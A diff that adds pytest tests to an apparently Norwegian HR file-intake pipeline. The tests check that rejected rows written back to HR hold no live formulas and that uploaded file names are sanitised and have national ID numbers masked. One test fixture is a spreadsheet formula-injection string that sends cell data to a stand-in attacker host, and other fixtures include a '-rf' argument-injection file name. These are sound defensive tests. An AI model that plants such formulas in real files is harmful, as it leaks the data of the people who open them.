@@ -103,3 +103,69 @@ def test_receipts_are_norwegian_and_mask_a_fodselsnummer_in_the_file_name():
     notice = duplicate("x.csv", "ab" * 32, when, {"behandlet": when.isoformat(), "filnavn": "y.csv",
                                                   "kvittering": "behandlet/y.csv.kvittering.txt"})
     assert "IKKE behandlet" in notice and "behandlet/y.csv.kvittering.txt" in notice
+
+
+# --- files written back to HR are inert -------------------------------------------------------
+
+INJECTION = '=HYPERLINK("http://angriper.example/?"&E2,"Klikk")'
+
+
+def test_rejected_rows_of_a_workbook_never_hold_a_formula(tmp_path):
+    import zipfile
+
+    book = Workbook()
+    sheet = book.active
+    sheet.append(["Id", "Navn", "Merknad"])
+    sheet.append(["A", "Ok", "fin"])
+    sheet.append(["B", INJECTION, "+1-2"])
+    sheet["C3"].data_type = "s"  # the original holds them as text (as HR typed them)
+    sheet["B3"].data_type = "s"
+    book.save(tmp_path / "ark.xlsx")
+    formulas = write_rejected_rows(tmp_path / "ark.xlsx", {3}, tmp_path / "ut.xlsx")
+    out = load_workbook(tmp_path / "ut.xlsx").active
+    assert out["B2"].value == INJECTION and out["B2"].data_type == "s" and out["C2"].data_type == "s"
+    with zipfile.ZipFile(tmp_path / "ut.xlsx") as archive:
+        assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode()
+    assert formulas == ["rad 3, kolonne «Navn»", "rad 3, kolonne «Merknad»"]
+
+
+def test_rejected_rows_of_a_csv_are_the_original_bytes(tmp_path):
+    source = tmp_path / "liste.csv"
+    data = ('Id;Navn;Arbeidsoppgaver\r\nA;Åse;rydde\r\nB;"=1+2";"lese\r\nskrive"\r\n'
+            'C;@SUM(A1);"\tx"\n').encode("utf-8-sig")  # mixed line endings and quoting kept as they are
+    source.write_bytes(data)
+    formulas = write_rejected_rows(source, {3, 5}, tmp_path / "ut.csv")
+    assert (tmp_path / "ut.csv").read_bytes() == ('Id;Navn;Arbeidsoppgaver\r\nB;"=1+2";"lese\r\nskrive"\r\n'
+                                                 'C;@SUM(A1);"\tx"\n').encode("utf-8-sig")
+    assert formulas == ["linje 3, kolonne «Navn»", "linje 5, kolonne «Navn»", "linje 5, kolonne «Arbeidsoppgaver»"]
+
+
+def test_the_error_list_names_the_cells_that_look_like_formulas():
+    text = error_list("ark.xlsx", "ab" * 32, datetime(2026, 3, 1, 12, 0), FileResult("ark.xlsx", unit="rad"), [],
+                      "behandlet/ark.xlsx.kvittering.txt", ["rad 3, kolonne «Navn»"])
+    assert "kan se ut\nsom formler" in text and "  - rad 3, kolonne «Navn»" in text
+
+
+# --- names anyone can give a file --------------------------------------------------------------
+
+def test_names_are_shown_on_one_line_with_nothing_hidden_and_no_fodselsnummer():
+    from pipeline.inbox.names import shown
+
+    raw = b"liste\xff\n2026 \xe2\x80\xae 01019012345.csv".decode("utf-8", "surrogateescape")
+    assert shown(raw) == "liste\\xff\\x0a2026 \\u202e 010190*****.csv"
+    shown(raw).encode("utf-8")  # writable to a receipt, a log, SQLite
+
+
+@pytest.mark.parametrize("raw", [b"\xff\xfe.csv", b"a\nb.csv", b"-rf.csv", b"x" * 251 + b".csv",
+                                 "Kari 01019012345678.xlsx".encode(), "é".encode() * 127 + b".json", b"%41.csv"])
+def test_safe_names_fit_name_max_with_any_notice_suffix(tmp_path, raw):
+    from pipeline.inbox.names import is_safe, safe_name
+
+    name = safe_name(raw.decode("utf-8", "surrogateescape"))
+    assert is_safe(name) and not name.startswith("-")
+    encoded = name.encode("utf-8")  # no surrogates left
+    assert len(encoded + b" (99).kvittering.txt") <= 255
+    assert not any(ch in name for ch in "\n\r\x00/")
+    assert not __import__("re").search(r"\d{11}", name)
+    assert name.rsplit(".", 1)[1] == raw.decode("utf-8", "replace").rsplit(".", 1)[1]  # the type is kept
+    (tmp_path / f"{name}.kvittering.txt").write_text("x")  # the file system takes it
